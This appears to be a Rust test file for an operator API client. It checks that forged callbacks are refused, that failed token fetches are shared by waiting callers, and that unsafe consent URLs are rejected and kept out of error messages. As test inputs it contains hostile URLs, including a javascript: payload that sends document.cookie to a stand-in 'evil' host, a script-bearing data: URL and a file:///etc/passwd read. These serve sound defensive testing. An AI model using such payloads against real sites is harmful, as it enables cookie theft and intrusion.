//! A hostile journey: a forged callback, a failed token fetch shared by waiting callers, and
//! consent URLs that are not an operator's page.

use super::*;

#[tokio::test]
async fn a_forged_callback_is_refused_before_any_request() {
    let server = scripted(|_| {
        json(&format!(
            r#"{{"status":"success","scope":"formfilling","formfilling":{{"family_name":"{FAMILY_NAME}"}}}}"#
        ))
    })
    .await;
    let c = client(&server);
    let mine = Flow::new(&Token::new(TOKEN), Scope::Formfilling, c.clock());
    for forged in [
        "token=SOMEONE-ELSES&status=success",
        "https://shop.example/back?token=TOKEN-HOSTILE-993&status=success",
        "token=TOKEN-HOSTILE-99311&status=success",
    ] {
        let e = c
            .complete_callback(forged, &mine, Duration::from_secs(5))
            .await
            .unwrap_err();
        assert!(
            matches!(e, Error::Callback(CallbackError::OtherFlow)),
            "{e:?}"
        );
        assert!(e.was_not_sent());
        assert_private(&e);
    }
    assert_eq!(server.count(), 0, "no request for a forged callback");
    let data = c
        .complete_callback(
            &format!("token={TOKEN}&status=success"),
            &mine,
            Duration::from_secs(5),
        )
        .await
        .unwrap();
    assert!(data.formfilling.is_some());
}

#[tokio::test]
async fn waiting_callers_share_a_failed_token_fetch() {
    // A server that takes a while, then fails.
    let late_503 = Answer::http(503, &[], "").after(Duration::from_millis(300));
    let server = scripted(move |_| late_503.clone()).await;
    logs();
    let c = Client::builder()
        .server(server.url())
        .credentials(Credentials::new(LICENCE, SECRET))
        .build()
        .unwrap();
    let mut set = tokio::task::JoinSet::new();
    for _ in 0..8 {
        let c = c.clone();
        set.spawn(async move { c.token().await });
    }
    let results = set.join_all().await;
    assert!(
        results
            .iter()
            .all(|r| matches!(r, Err(Error::HttpStatus { status: 503, .. })))
    );
    assert_eq!(server.count(), 1, "one fetch for all the waiting callers");
    // A later call tries again.
    let _ = c.token().await;
    assert_eq!(server.count(), 2);
}

/// A step 1 success carrying `url` as its consent URL (JSON-escaped here).
fn consent_reply(url: &str) -> Answer {
    let url = serde_json::to_string(url).unwrap();
    json(&format!(
        r#"{{"status":"success","operator":"Orange","url":{url}}}"#
    ))
}

#[tokio::test]
async fn a_consent_url_that_is_not_an_operator_page_is_refused_and_never_shown() {
    let long = format!("https://op.example/{}", "x".repeat(5000));
    let cases: [(Option<&str>, client::UnsafeUrl); 9] = [
        (
            Some("javascript:fetch('//evil/'+document.cookie)"),
            client::UnsafeUrl::Scheme,
        ),
        (
            Some("data:text/html,<script>evil()</script>"),
            client::UnsafeUrl::Scheme,
        ),
        (Some("file:///etc/passwd"), client::UnsafeUrl::Scheme),
        (Some("/evil/relative"), client::UnsafeUrl::NotAbsolute),
        (Some(""), client::UnsafeUrl::Missing),
        (Some(&long), client::UnsafeUrl::TooLong),
        (
            Some("https://evil:pw@op.example/c"),
            client::UnsafeUrl::UserInfo,
        ),
        (
            Some("https://op.example/\u{1b}]8;;evil\u{7}"),
            client::UnsafeUrl::NotPrintable,
        ),
        (None, client::UnsafeUrl::Missing),
    ];
    for (url, why) in cases {
        let url = url.map(str::to_owned);
        let server = scripted(move |path| match (path, &url) {
            (TOKEN_PATH, _) => token_reply(),
            (_, Some(url)) => consent_reply(url),
            (_, None) => json(r#"{"status":"success","operator":"Orange"}"#),
        })
        .await;
        let c = client(&server);
        let e = c.initiate(&step1()).await.unwrap_err();
        let Error::Unconfirmed { cause, flow } = &e else {
            panic!("{e:?}")
        };
        assert!(matches!(**cause, Error::ConsentUrl(w) if w == why), "{e:?}");
        assert!(flow.has_token(TOKEN), "the flow to poll comes back");
        assert_eq!(e.kind(), ErrorKind::Unexpected);
        assert!(!e.is_retryable() && !e.was_not_sent());
        assert_eq!(server.hits(STEP1), 1, "step 1 sent exactly once");
        let shown = format!("{e}\n{e:?}");
        assert!(
            shown.contains(&why.to_string()),
            "the rule is named: {shown}"
        );
        for part in ["evil", "passwd", "xxxxxxxx"] {
            assert!(!shown.contains(part), "the URL is not shown: {shown}");
        }
        assert_private(&e);
        // `start` refuses it the same way.
        assert!(matches!(
            c.start(&step1()).await,
            Err(Error::Unconfirmed { .. })
        ));
    }
}

#[tokio::test]
async fn an_operator_consent_url_is_given_as_it_came() {
    let url = "https://api.operator/openidconnect/fr?session=a%20b&state=x#top";
    let server = scripted(move |path| match path {
        TOKEN_PATH => token_reply(),
        _ => consent_reply(url),
    })
    .await;
    let consent = client(&server).initiate(&step1()).await.unwrap();
    assert_eq!(consent.url(), Some(url));
}

#[tokio::test]
async fn a_one_step_scope_answering_a_consent_url_is_a_consent_not_an_empty_result() {
    let server = scripted(|path| match path {
        TOKEN_PATH => token_reply(),
        _ => consent_reply("https://op.example/consent"),
    })
    .await;
    let mut infos = UserInfos::default();
    infos.lastname = Some("Dupont".to_owned());
    let request = InitiateRequest::new()
        .number(NUMBER)
        .name("ACME")
        .matching_notp(infos);
    match client(&server).start(&request).await.unwrap() {
        client::Started::Consent(consent) => {
            assert_eq!(consent.url(), Some("https://op.example/consent"));
        }
        other => panic!("{other:?}"),
    }
    // A javascript: URL in that shape is refused as for any scope.
    let server = scripted(|path| match path {
        TOKEN_PATH => token_reply(),
        _ => consent_reply("javascript:alert(1)"),
    })
    .await;
    let e = client(&server).start(&request).await.unwrap_err();
    assert!(matches!(e, Error::Unconfirmed { .. }), "{e:?}");
}
